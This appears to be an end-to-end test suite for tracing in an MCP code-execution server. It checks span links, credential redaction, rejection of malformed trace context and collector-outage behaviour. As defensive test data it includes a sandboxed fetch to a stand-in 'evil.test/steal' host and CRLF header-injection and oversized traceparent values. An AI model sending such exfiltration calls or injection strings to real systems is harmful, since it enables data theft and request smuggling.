// Traces end to end: the real binary with "tracing" in its config exports OTLP/HTTP JSON to a
// loopback receiver (a plain node http server decoding the JSON), serving the official MCP client
// over stdio (trace context in params._meta) and Streamable HTTP (in the traceparent header),
// against an upstream that echoes the credential it is given and records the trace headers it
// sees. The spans must link up, the upstream must see the CLIENT span's id, no credential may
// appear in anything exported, hostile trace context must be ignored, and a collector that is
// down or never answers must not delay a call or the shutdown past its bound.
import { test, describe, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { once } from 'node:events';
import { writeFileSync, mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { BIN, SOURCE_DIR, run } from './harness.mjs';
import { startHttpServer, rawExchange, post, INITIALIZE } from './http_harness.mjs';

const SECRET = 'sk-trace-e2e-5c0ffee1d2e3f4a5';
const COLLECTOR_TOKEN = 'collector-token-9a8b7c6d5e4f';
const TRACE = '4bf92f3577b34da6a3ce929d0e0e4736';
const PARENT = '00f067aa0ba902b7';
const TRACEPARENT = `00-${TRACE}-${PARENT}-01`;

// The loopback OTLP receiver: every POST's decoded body, headers and path; `hold` keeps each
// request unanswered (a collector that is slow forever), `status` answers with that status.
async function startReceiver({ hold = false, status = 200 } = {}) {
  const exports = [];
  const waiters = new Set();
  const held = [];
  const server = createServer((req, res) => {
    let body = '';
    req.setEncoding('utf8');
    req.on('data', (d) => { body += d; });
    req.on('end', () => {
      exports.push({ path: req.url, method: req.method, headers: req.headers, raw: body, json: JSON.parse(body) });
      for (const check of waiters) check();
      if (hold) return held.push(res);
      res.writeHead(status, { 'content-type': 'application/json' });
      res.end('{}');
    });
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const spans = () => exports.flatMap((e) => e.json.resourceSpans.flatMap((r) => r.scopeSpans.flatMap((s) => s.spans)));
  return {
    url: `http://127.0.0.1:${server.address().port}/v1/traces`,
    exports,
    spans,
    // Resolves with the spans once `predicate(spans)` holds (checked on every export).
    until: (predicate, ms = 10000) => new Promise((resolve, reject) => {
      const check = () => {
        if (!predicate(spans())) return;
        waiters.delete(check);
        clearTimeout(timer);
        resolve(spans());
      };
      const timer = setTimeout(() => {
        waiters.delete(check);
        reject(new Error(`spans not seen within ${ms} ms; got ${JSON.stringify(spans().map((s) => s.name))}`));
      }, ms);
      waiters.add(check);
      check();
    }),
    close: async () => {
      for (const res of held) res.destroy();
      server.closeAllConnections();
      server.close();
    },
  };
}

// The upstream: echoes the credential in its body and a header; records the trace headers.
async function startUpstream() {
  const seen = [];
  const server = createServer((req, res) => {
    seen.push({ path: req.url, traceparent: req.headers.traceparent, tracestate: req.headers.tracestate, raw: req.rawHeaders });
    res.writeHead(200, { 'content-type': 'application/json', 'x-echo-auth': req.headers.authorization ?? '' });
    res.end(JSON.stringify({ path: req.url, youSent: req.headers.authorization }));
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return { origin: `http://127.0.0.1:${server.address().port}`, seen, close: () => server.close() };
}

function writeTracingConfig(dir, upstream, otlp, extra = {}) {
  const file = join(dir, `config-${Math.random().toString(36).slice(2)}.json`);
  writeFileSync(file, JSON.stringify({
    openapi: join(SOURCE_DIR, 'fixtures/markethub/openapi.json'),
    upstreams: [{ origin: upstream.origin, headers: { Authorization: 'Bearer ${E2E_SECRET}' } }],
    tracing: { otlp, service_name: 'tracing-e2e', headers: { Authorization: 'Bearer ${COLLECTOR_TOKEN}' } },
    ...extra,
  }));
  return file;
}

const ENV = { E2E_SECRET: SECRET, COLLECTOR_TOKEN };
// Under ASan a call is slower; the bounds stay below what waiting on the collector would cost
// (an export waits up to 5 s, and shutdown, without its 3 s bound, for every export in turn).
const SLOWER = process.env.CODEMODE_SANITIZED === '1' ? 3 : 1;
const attr = (span, key) => {
  const found = span.attributes.find((a) => a.key === key);
  return found ? (found.value.stringValue ?? found.value.intValue) : undefined;
};
const serverSpans = (spans, trace) => spans.filter((s) => s.kind === 2 && s.traceId === trace);
const childrenOf = (spans, parent) => spans.filter((s) => s.kind === 3 && s.parentSpanId === parent.spanId);

// Code that makes one allowed request with trace headers of its own, and one refused request.
const CODE = `async () => {
  const r = await fetch('/products/p1', { headers: { traceparent: '00-${'a'.repeat(32)}-${'b'.repeat(16)}-01', tracestate: 'code=1' } });
  const echoed = await r.text();
  try { await fetch('http://evil.test/steal'); } catch (e) { return [r.status, echoed, String(e)]; }
}`;

describe('traces over stdio: the trace context in params._meta', () => {
  let dir, upstream, receiver, client, stderr = '', auditConfig;
  before(async () => {
    dir = mkdtempSync(join(tmpdir(), 'codemode-tracing-e2e-'));
    upstream = await startUpstream();
    receiver = await startReceiver();
    auditConfig = writeTracingConfig(dir, upstream, receiver.url, { audit: { sqlite: 'audit.db', server: 'trace-e2e' } });
    client = new Client({ name: 'tracing-e2e', version: '1.0' });
    const transport = new StdioClientTransport({ command: BIN, args: ['--config', auditConfig], env: { ...process.env, ...ENV }, stderr: 'pipe' });
    transport.stderr.on('data', (d) => { stderr += d; });
    await client.connect(transport);
  });
  after(async () => {
    await client?.close();
    receiver?.close();
    upstream?.close();
  });

  test('a SERVER span with CLIENT children in the caller\'s trace; the upstream sees the client span', async () => {
    const result = await client.callTool({ name: 'execute', arguments: { code: CODE }, _meta: { traceparent: TRACEPARENT, tracestate: 'vendor=opaque' } });
    assert.equal(result.isError, undefined, JSON.stringify(result));
    const spans = await receiver.until((all) => {
      const [call] = serverSpans(all, TRACE);
      return call && childrenOf(all, call).length === 2;
    });
    const [call] = serverSpans(spans, TRACE);
    assert.equal(call.name, 'tools/call execute');
    assert.equal(call.parentSpanId, PARENT, 'the caller\'s span is the parent');
    assert.match(call.spanId, /^[0-9a-f]{16}$/);
    assert.equal(attr(call, 'mcp.method.name'), 'tools/call');
    assert.equal(attr(call, 'gen_ai.tool.name'), 'execute');
    assert.equal(attr(call, 'gen_ai.operation.name'), 'execute_tool');
    assert.match(attr(call, 'mcp.protocol.version'), /^\d{4}-\d{2}-\d{2}$/, 'the negotiated revision');
    assert.match(attr(call, 'mcp.session.id'), /^stdio-\d+$/, 'the session\'s name, never a credential');
    assert.equal(attr(call, 'network.transport'), 'pipe');
    assert.equal(attr(call, 'error.type'), undefined);
    assert.ok(BigInt(call.endTimeUnixNano) >= BigInt(call.startTimeUnixNano));

    const children = childrenOf(spans, call);
    const allowed = children.find((s) => attr(s, 'http.response.status_code') !== undefined);
    const refused = children.find((s) => s !== allowed);
    assert.equal(allowed.traceId, TRACE);
    assert.equal(allowed.name, 'GET');
    assert.equal(attr(allowed, 'http.request.method'), 'GET');
    assert.equal(attr(allowed, 'url.full'), `${upstream.origin}/products/p1`);
    assert.equal(attr(allowed, 'server.address'), '127.0.0.1');
    assert.equal(attr(allowed, 'server.port'), String(new URL(upstream.origin).port));
    assert.equal(attr(allowed, 'http.response.status_code'), '200');
    assert.ok(BigInt(allowed.startTimeUnixNano) >= BigInt(call.startTimeUnixNano), 'the child starts within its parent');
    assert.equal(refused.traceId, TRACE);
    assert.equal(attr(refused, 'error.type'), 'policy');
    assert.equal(attr(refused, 'codemode.refusal.reason'), 'origin');
    assert.equal(refused.status.code, 2);

    // The upstream saw the host's traceparent, naming the CLIENT span, and the call's
    // tracestate; not what the code set.
    const hit = upstream.seen.find((r) => r.path === '/products/p1');
    assert.equal(hit.traceparent, `00-${TRACE}-${allowed.spanId}-01`);
    assert.equal(hit.tracestate, 'vendor=opaque');
    assert.equal(hit.raw.filter((h) => h.toLowerCase() === 'traceparent').length, 1, 'one traceparent field');
    assert.ok(!hit.raw.join('\n').includes('b'.repeat(16)), 'the code\'s traceparent was sent');
    assert.ok(!hit.raw.includes('code=1'), 'the code\'s tracestate was sent');

    // The export itself: OTLP/HTTP JSON, the collector's header, the resource's service name.
    const first = receiver.exports[0];
    assert.equal(first.method, 'POST');
    assert.equal(first.path, '/v1/traces');
    assert.equal(first.headers['content-type'], 'application/json');
    assert.equal(first.headers.authorization, `Bearer ${COLLECTOR_TOKEN}`);
    const resource = first.json.resourceSpans[0].resource.attributes;
    assert.deepEqual(resource.find((a) => a.key === 'service.name').value, { stringValue: 'tracing-e2e' });
  });

  test('hostile trace context is ignored: a new trace starts, nothing of it is logged or exported', async () => {
    const hostile = [
      `00-${TRACE}-${PARENT}-01\r\nX-Injected: yes`,                          // a header injected
      `00-${'f'.repeat(32)}-${PARENT}-01` + '-'.repeat(70000),                  // oversized
      `00-${'0'.repeat(32)}-${PARENT}-01`,                                      // all-zero trace id
      'ff-ffffffffffffffffffffffffffffffff-ffffffffffffffff-ff',               // version ff
    ];
    const before = receiver.spans().length;
    for (const traceparent of hostile) {
      const r = await client.callTool({ name: 'search', arguments: { code: 'async () => 1' }, _meta: { traceparent, tracestate: 'x=1\ny' } });
      assert.equal(r.isError, undefined);
    }
    const spans = await receiver.until((all) => all.slice(before).filter((s) => s.kind === 2).length >= hostile.length);
    const fresh = spans.slice(before).filter((s) => s.kind === 2);
    for (const span of fresh) {
      assert.notEqual(span.traceId, TRACE, 'a malformed traceparent was taken');
      assert.notEqual(span.traceId, 'f'.repeat(32));
      assert.equal(span.parentSpanId ?? '', '', 'a new trace has no parent');
      assert.match(span.traceId, /^[0-9a-f]{32}$/);
    }
    assert.equal(new Set(fresh.map((s) => s.traceId)).size, fresh.length, 'each call a trace of its own');
    assert.ok(!stderr.includes('X-Injected'), 'hostile text reached the log');
    assert.ok(!stderr.includes('-'.repeat(1000)));
    assert.ok(!receiver.exports.some((e) => e.raw.includes('X-Injected')));
  });

  test('the audit record carries the call\'s trace id, also of a trace started here', async () => {
    const r = await run(['audit', '--config', auditConfig, 'query', '--kind', 'call']);
    assert.equal(r.code, 0, r.stderr);
    const records = r.stdout.trim().split('\n').map((l) => JSON.parse(l));
    const ids = new Set(receiver.spans().filter((s) => s.kind === 2).map((s) => s.traceId));
    assert.equal(records.length, 5);
    assert.equal(records[0].trace_id, TRACE);
    for (const record of records) {
      assert.match(record.trace_id, /^[0-9a-f]{32}$/);
      assert.ok(ids.has(record.trace_id), `record ${record.trace_id} has no exported span`);
    }
  });

  test('no credential appears in anything exported or logged', async () => {
    assert.ok(receiver.exports.length > 0);
    for (const e of receiver.exports) {
      assert.ok(!e.raw.includes(SECRET), 'the upstream credential was exported');
      assert.ok(!e.raw.includes(COLLECTOR_TOKEN), 'the collector token was exported');
    }
    assert.ok(!stderr.includes(SECRET));
    assert.ok(!stderr.includes(COLLECTOR_TOKEN));
  });
});

describe('traces over Streamable HTTP: the traceparent header', () => {
  let dir, upstream, receiver, server;
  before(async () => {
    dir = mkdtempSync(join(tmpdir(), 'codemode-tracing-http-'));
    upstream = await startUpstream();
    receiver = await startReceiver();
    const config = writeTracingConfig(dir, upstream, receiver.url);
    server = await startHttpServer(['--http', '127.0.0.1:0', '--config', config], ENV);
  });
  after(async () => {
    server?.proc.kill('SIGTERM');
    await server?.exited;
    receiver?.close();
    upstream?.close();
  });

  test('the header names the trace when _meta has none; _meta wins when it has one', async () => {
    const headerTrace = '11111111111111111111111111111111';
    const client = new Client({ name: 'tracing-http', version: '1.0' });
    await client.connect(new StreamableHTTPClientTransport(new URL(server.url), {
      requestInit: { headers: { traceparent: `00-${headerTrace}-2222222222222222-01` } },
    }));
    try {
      await client.callTool({ name: 'execute', arguments: { code: "async () => (await fetch('/products/p1')).status" } });
      await client.callTool({ name: 'search', arguments: { code: 'async () => 2' }, _meta: { traceparent: TRACEPARENT } });
    } finally {
      await client.close();
    }
    const spans = await receiver.until((all) => serverSpans(all, headerTrace).length === 1 &&
      childrenOf(all, serverSpans(all, headerTrace)[0]).length === 1 && serverSpans(all, TRACE).length === 1);
    const [call] = serverSpans(spans, headerTrace);
    assert.equal(call.parentSpanId, '2222222222222222');
    assert.match(attr(call, 'mcp.session.id'), /^http-\d+$/);
    assert.equal(attr(call, 'network.protocol.name'), 'http');
    const [child] = childrenOf(spans, call);
    assert.equal(upstream.seen.at(-1).traceparent, `00-${headerTrace}-${child.spanId}-01`);
    const [metaCall] = serverSpans(spans, TRACE);
    assert.equal(metaCall.name, 'tools/call search');
    assert.equal(metaCall.parentSpanId, PARENT);
    for (const e of receiver.exports) assert.ok(!e.raw.includes(SECRET));
  });

  test('two traceparent header fields are no trace context: a new trace starts', async () => {
    const init = await rawExchange(server.port, post(server.port, INITIALIZE));
    const session = init.headers['mcp-session-id'];
    assert.ok(session, init.body);
    const body = JSON.stringify({ jsonrpc: '2.0', id: 4242, method: 'tools/call', params: { name: 'search', arguments: { code: 'async () => 3' } } });
    const r = await rawExchange(server.port, [
      'POST /mcp HTTP/1.1', `Host: 127.0.0.1:${server.port}`, 'Content-Type: application/json',
      'Accept: application/json, text/event-stream', 'MCP-Protocol-Version: 2025-11-25', `Mcp-Session-Id: ${session}`,
      `traceparent: 00-${'3'.repeat(32)}-${'4'.repeat(16)}-01`, `traceparent: 00-${'5'.repeat(32)}-${'6'.repeat(16)}-01`,
      `Content-Length: ${Buffer.byteLength(body)}`, 'Connection: close', '', body,
    ].join('\r\n'));
    assert.equal(r.status, 200, r.body);
    const spans = await receiver.until((all) => all.some((s) => s.kind === 2 && attr(s, 'jsonrpc.request.id') === '4242'));
    const call = spans.find((s) => s.kind === 2 && attr(s, 'jsonrpc.request.id') === '4242');
    assert.ok(![`${'3'.repeat(32)}`, `${'5'.repeat(32)}`].includes(call.traceId), 'one of two traceparent fields was taken');
    assert.equal(call.parentSpanId ?? '', '');
  });
});

describe('a collector that is down or never answers costs calls nothing', () => {
  for (const mode of ['down', 'silent']) {
    test(`collector ${mode}: calls stay fast, drops are counted, shutdown is bounded`, async (t) => {
      const dir = mkdtempSync(join(tmpdir(), 'codemode-tracing-down-'));
      const upstream = await startUpstream();
      let receiver = null;
      let otlp;
      if (mode === 'down') {
        const probe = createServer();
        probe.listen(0, '127.0.0.1');
        await once(probe, 'listening');
        otlp = `http://127.0.0.1:${probe.address().port}/v1/traces`;
        await new Promise((resolve) => probe.close(resolve));  // nothing listens there now
      } else {
        receiver = await startReceiver({ hold: true });
        otlp = receiver.url;
      }
      const config = writeTracingConfig(dir, upstream, otlp);
      const server = await startHttpServer(['--http', '127.0.0.1:0', '--http-stateless', '--config', config], ENV);
      try {
        const call = (id, code) => rawExchange(server.port, post(server.port,
          { jsonrpc: '2.0', id, method: 'tools/call', params: { name: 'execute', arguments: { code } } },
          { 'MCP-Protocol-Version': '2025-11-25', Connection: 'close' }));
        const slowest = { ms: 0 };
        // Spread over more than one export interval, so exports are attempted while calls run.
        const started = Date.now();
        let id = 0;
        while (Date.now() - started < 2500 || id < 10) {
          const t0 = Date.now();
          const r = await call(++id, "async () => (await fetch('/products/p1')).status");
          slowest.ms = Math.max(slowest.ms, Date.now() - t0);
          assert.equal(r.status, 200);
          assert.match(r.body, /200/);
        }
        assert.ok(slowest.ms < 1000 * SLOWER, `a call took ${slowest.ms} ms with the collector ${mode}`);
        if (mode === 'silent') await receiver.until((all) => all.length > 0);  // an export is in flight
        const metrics = await rawExchange(server.port, `GET /metrics HTTP/1.1\r\nHost: 127.0.0.1:${server.port}\r\nConnection: close\r\n\r\n`);
        if (mode === 'down') {
          assert.match(metrics.body, /^codemode_trace_spans_dropped_total [1-9]/m);
          assert.match(metrics.body, /^codemode_trace_export_failures_total [1-9]/m);
          const lines = server.stderr.split('\n').filter((l) => l.includes('tracing: export to'));
          assert.equal(lines.length, 1, `export failures are logged once a minute:\n${lines.join('\n')}`);
          assert.ok(!lines[0].includes(COLLECTOR_TOKEN));
        }
        const t0 = Date.now();
        server.proc.kill('SIGTERM');
        await server.exited;
        const shutdown = Date.now() - t0;
        assert.ok(shutdown < 6000 + 2000 * (SLOWER - 1), `shutdown took ${shutdown} ms with the collector ${mode}`);
        assert.match(server.stderr, /tracing: \d+ spans exported, [1-9]\d* dropped/);
        t.diagnostic(`collector ${mode}: ${id} calls, the slowest ${slowest.ms} ms; shutdown ${shutdown} ms`);
      } finally {
        server.proc.kill('SIGKILL');
        receiver?.close();
        upstream.close();
      }
    });
  }
});
